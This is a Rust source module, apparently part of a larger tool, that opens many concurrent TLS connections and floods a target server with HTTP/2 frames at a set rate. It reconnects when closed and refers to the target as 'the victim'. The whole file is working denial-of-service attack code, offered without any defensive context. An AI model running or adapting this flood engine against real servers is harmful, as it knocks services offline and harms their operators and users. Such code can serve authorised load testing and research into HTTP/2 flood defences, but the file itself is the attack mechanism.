//! Frames, as many a second as it takes, over HTTP/2 connections with a certificate.

use std::sync::Arc;
use std::time::Duration;

use rustls::ClientConfig;
use tokio::io::{AsyncWriteExt as _, split};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::{Instant, sleep, timeout_at};
use tokio_rustls::client::TlsStream;

use super::Front;
use super::wire::{NONE, PREFACE, SETTINGS, frame};
use crate::Error;

/// How long a connection that was closed stays away.
pub(super) const REOPEN: Duration = Duration::from_millis(100);
/// How often frames are written.
const TICK: Duration = Duration::from_millis(2);
/// A connection that could not write for long sends at most so much time's worth of frames at once.
const ARREARS: Duration = Duration::from_millis(50);

/// The streams of one connection.
#[derive(Debug)]
pub(super) struct Line {
    next: u32,
}

impl Line {
    /// A stream that was not there yet.
    pub(super) fn open(&mut self) -> u32 {
        self.next += 2;
        self.next - 2
    }
}

type Write = Box<dyn Fn(&mut Line, &mut Vec<u8>) + Send + Sync>;

/// A flood of one kind of frames.
pub(super) struct Flood {
    pub(super) config: Arc<ClientConfig>,
    /// What each connection begins with, after its preface and SETTINGS.
    pub(super) begin: Write,
    /// One unit.
    pub(super) unit: Write,
}

pub(super) async fn run(front: &Arc<Front>, flood: Flood) -> Result<(), Error> {
    let flood = Arc::new(flood);
    let mut lines = JoinSet::new();
    for _ in 0..front.connections {
        lines.spawn(line(Arc::clone(front), Arc::clone(&flood)));
    }
    while let Some(ended) = lines.join_next().await {
        ended?;
    }
    Ok(())
}

/// One connection after the other.
async fn line(front: Arc<Front>, flood: Arc<Flood>) {
    while Instant::now() < front.end {
        match timeout_at(front.end, front.target.tls(&flood.config)).await {
            Ok(Ok(stream)) => {
                front.tally.opened.add(1);
                connection(&front, &flood, stream).await;
            }
            Ok(Err(_)) => front.tally.refused.add(1),
            Err(_) => return,
        }
        sleep(REOPEN).await;
    }
}

/// Until the victim closes it, or time is up.
async fn connection(front: &Arc<Front>, flood: &Flood, stream: TlsStream<TcpStream>) {
    let (read, mut write) = split(stream);
    let reader = Arc::clone(front);
    let mut closed = tokio::spawn(async move { reader.tally.read(read).await });
    let mut line = Line { next: 1 };
    let mut out = PREFACE.to_vec();
    frame(&mut out, SETTINGS, NONE, 0, &[]);
    (flood.begin)(&mut line, &mut out);
    let (mut units, mut since) = (0, Instant::now());
    let per_connection = f64::from(front.rate) / f64::from(front.connections);
    loop {
        let writing = timeout_at(front.end, write.write_all(&out));
        let written = tokio::select! {
            written = writing => matches!(written, Ok(Ok(()))),
            _ = &mut closed => return,
        };
        // A write that need not wait is done before its time-out is looked at.
        if !written || Instant::now() >= front.end {
            break;
        }
        front.tally.units.add(units);
        tokio::select! {
            () = sleep(TICK) => {}
            _ = &mut closed => return,
        }
        let due = since.elapsed().min(ARREARS).as_secs_f64() * per_connection;
        units = due as u64;
        if units > 0 {
            since = Instant::now();
        }
        out.clear();
        for _ in 0..units {
            (flood.unit)(&mut line, &mut out);
        }
    }
    closed.abort();
}
